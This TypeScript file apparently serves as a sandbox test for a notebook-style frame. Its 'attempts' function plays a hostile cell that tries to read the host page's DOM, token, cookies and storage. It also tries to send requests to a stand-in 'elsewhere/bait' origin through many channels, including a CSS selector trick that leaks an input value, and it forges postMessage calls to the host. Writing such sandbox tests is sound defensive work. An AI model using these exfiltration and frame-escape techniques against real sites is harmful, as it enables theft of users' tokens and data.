/**
 * What a hostile cell tries: each attempt with what it got, or the error that it met. Runs in a frame, so it uses nothing from
 * outside itself.
 * @param server base URL of the server whose page this is
 * @param elsewhere origin of another one
 */
export async function attempts(server: string, elsewhere: string): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const soon = (ms: number): Promise<string> =>
    new Promise((resolve) => setTimeout(() => resolve('nothing'), ms));
  const tried: Promise<void>[] = [];
  const attempt = (name: string, work: () => unknown): void => void tried.push(made(name, work));
  const made = async (name: string, work: () => unknown): Promise<void> => {
    try {
      const got: unknown = await Promise.race([work(), soon(300)]);
      outcomes[name] = `got ${String(got)}`;
    } catch (error) {
      outcomes[name] = `refused ${(error as Error).name}`;
    }
  };
  const opened = (connection: WebSocket | EventSource): Promise<unknown> =>
    new Promise((resolve, reject) => {
      connection.onopen = resolve;
      connection.onerror = () => reject(new Error('refused'));
    });
  const global = globalThis as unknown as Record<string, never> & typeof globalThis;
  const urls = [`${server}api/contents?bait`, `${elsewhere}/bait`];
  const outer = window.parent.parent;

  // The page, its token and what its site keeps.
  for (const [name, of] of [
    ['parent', window.parent],
    ['page', outer],
    ['top', window.top as Window],
  ] as const) {
    attempt(`${name} document`, () => of.document.documentElement.outerHTML);
    attempt(`${name} address`, () => of.location.href);
    attempt(`${name} storage`, () => of.localStorage.length);
    attempt(`${name} eval`, () => (of as unknown as typeof globalThis).eval('1'));
    attempt(`${name} navigation`, () => {
      of.location.href = `${elsewhere}/bait`;
      throw new Error('navigated');
    });
  }
  attempt('frame element', () => window.frameElement ?? Promise.reject(new Error('none')));
  attempt(
    'page config',
    () => document.getElementById('jupyter-config-data')?.textContent ?? Promise.reject(new Error('none')),
  );
  attempt('base address', () => {
    document.querySelectorAll('base').forEach((base) => base.remove());
    return document.baseURI.includes('?') ? document.baseURI : Promise.reject(new Error('no token'));
  });
  attempt('referrer', () => document.referrer || Promise.reject(new Error('none')));
  attempt('origin', () => (origin === 'null' ? Promise.reject(new Error('opaque')) : origin));
  attempt('cookie', () => document.cookie);
  attempt('localStorage', () => localStorage.length);
  attempt('sessionStorage', () => sessionStorage.length);
  attempt(
    'indexedDB',
    () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('bait');
        request.onsuccess = () => resolve('open');
        request.onerror = () => reject(new Error('refused'));
      }),
  );
  attempt('caches', () => caches.keys());
  attempt('cookieStore', () => (global['cookieStore'] as { getAll(): unknown }).getAll());
  attempt('file system', () => navigator.storage.getDirectory());
  attempt('service worker', () => navigator.serviceWorker.register(`${server}service-worker.js`));
  attempt(
    'shared worker',
    () =>
      new Promise((resolve, reject) => {
        const worker = new SharedWorker(`${server}static/lab/bait.js`);
        worker.onerror = () => reject(new Error('refused'));
        worker.port.onmessage = resolve;
      }),
  );

  // Requests of every kind.
  for (const [index, url] of urls.entries()) {
    const socket = url.replace(/^http/, 'ws');
    attempt(`fetch ${index}`, () => fetch(url, { mode: 'no-cors', credentials: 'include', keepalive: true }));
    attempt(`XMLHttpRequest ${index}`, () => {
      const request = new XMLHttpRequest();
      request.open('GET', url, false);
      request.send();
      return request.status;
    });
    attempt(`WebSocket ${index}`, () => opened(new WebSocket(socket)));
    attempt(`EventSource ${index}`, () => opened(new EventSource(url)));
    attempt(`beacon ${index}`, () => {
      navigator.sendBeacon(url, 'bait');
      throw new Error('nobody knows');
    });
    attempt(`import ${index}`, () => import(/* @vite-ignore */ url));
    attempt(
      `worker ${index}`,
      () =>
        new Promise((resolve, reject) => {
          const code = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).then(() => postMessage('got'), () => postMessage('no')); try { importScripts(${JSON.stringify(url)}); postMessage('got') } catch { /* fetch has told, or tells */ }`;
          const worker = new Worker(URL.createObjectURL(new Blob([code])));
          worker.onmessage = ({ data }) => (data === 'got' ? resolve(data) : reject(new Error('refused')));
          worker.onerror = () => reject(new Error('refused'));
        }),
    );
    attempt(`peer ${index}`, () => {
      const { host } = new URL(url);
      const Peer = global['RTCPeerConnection'] as unknown as new (options: object) => object;
      return new Peer({
        iceServers: [{ urls: `turn:${host}?transport=tcp`, username: 'a', credential: 'b' }],
      });
    });
    const elements = document.createElement('div');
    elements.innerHTML =
      `<img src="${url}&img"><img srcset="${url}&srcset 1x"><link rel="stylesheet" href="${url}&css"><link rel="icon" href="${url}&icon">` +
      [
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'preconnect',
        'dns-prefetch',
        'manifest',
        'import',
      ]
        .map((rel) => `<link rel="${rel}" as="script" href="${url}&${rel}">`)
        .join('') +
      `<video src="${url}&video" poster="${url}&poster"></video><audio src="${url}&audio"></audio><object data="${url}&object"></object>` +
      `<embed src="${url}&embed"><iframe src="${url}&frame"></iframe><input type="image" src="${url}&input"><svg><image href="${url}&svg" />` +
      `<use href="${url}&use#a" /></svg><table background="${url}&table"></table><a ping="${url}&ping" href="#x">a</a>` +
      `<style>@import url(${url}&import); @font-face { font-family: bait; src: url(${url}&font) }` +
      ` p { font-family: bait; background: url(${url}&background); cursor: url(${url}&cursor), auto; list-style-image: url(${url}&list) }` +
      ` input[value^="s"] { background: url(${url}&exfiltrated) }</style><p>x</p><input value="secret">` +
      `<base href="${url}&base"><form action="${url}&form"><button>f</button></form>`;
    document.body.append(elements);
    (elements.querySelector('a') as HTMLAnchorElement).click();
    (elements.querySelector('form') as HTMLFormElement).submit();
    (elements.querySelector('button') as HTMLButtonElement).click();
    const script = document.createElement('script');
    script.src = `${url}&script`;
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }],
    });
    document.head.append(script, rules);
    const child = document.createElement('iframe');
    child.srcdoc = `<script>fetch('${url}&child').catch(() => 0); parent.postMessage('child', '*'); location = '${url}&childnav'</${'script'}>`;
    const hidden = document.createElement('div');
    hidden.attachShadow({ mode: 'closed' }).append(child.cloneNode());
    attempt(
      `frame within ${index}`,
      () =>
        new Promise((resolve) => {
          addEventListener('message', ({ data }) => data === 'child' && resolve('scripts of its own'));
          document.body.append(child, hidden);
        }),
    );
    await soon(100);
    elements.remove();
  }

  // Out of the frame, and over the page.
  attempt('popup', () => window.open(`${elsewhere}/bait`) ?? Promise.reject(new Error('none')));
  attempt('link', () => {
    const link = document.createElement('a');
    for (const target of ['_top', '_parent', '_blank'])
      Object.assign(link, { href: `${elsewhere}/bait`, target }).click();
    throw new Error('nobody knows');
  });
  attempt('fullscreen', () => document.documentElement.requestFullscreen());
  attempt('pointer lock', () => document.body.requestPointerLock());
  attempt('clipboard', () => navigator.clipboard.readText());
  attempt('clipboard write', () => navigator.clipboard.writeText('bait'));
  attempt('notification', async () =>
    (await Notification.requestPermission()) === 'granted' ? 'granted' : Promise.reject(new Error('no')),
  );
  attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  attempt('dialogs', () =>
    confirm('bait') || prompt('bait') !== null ? 'an answer' : Promise.reject(new Error('none')),
  );
  await Promise.all(tried);
  const forged = [
    ...[
      'in-the-loop-realm-here',
      'in-the-loop-realm-port',
      { type: 'in-the-loop:host-ready' },
      { type: 'in-the-loop:host-open' },
    ],
    ...[
      { type: 'height', height: 1e9 },
      { type: 'height', height: 'x' },
      { type: 'ends' },
      { type: 'message', message: {} },
      null,
    ],
    ...[{ type: 'make-realm', realm: 1 }, { type: 'open', settings: {} }, { type: 'connect' }],
  ];
  for (const message of forged)
    for (const window of [self.parent, outer, self.top as Window]) {
      const { port1 } = new MessageChannel();
      window.postMessage(message, '*', [port1]);
    }
  return outcomes;
}

/** Ways for a frame to send itself elsewhere, each of which ends its document. */
export const WAYS_OUT = [
  'location = URL',
  'location.replace(URL)',
  `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + URL + '">')`,
  `const link = document.createElement('a'); link.href = URL; link.click()`,
  `const link = document.createElement('a'); link.href = URL; link.download = 'bait'; link.click()`,
] as const;
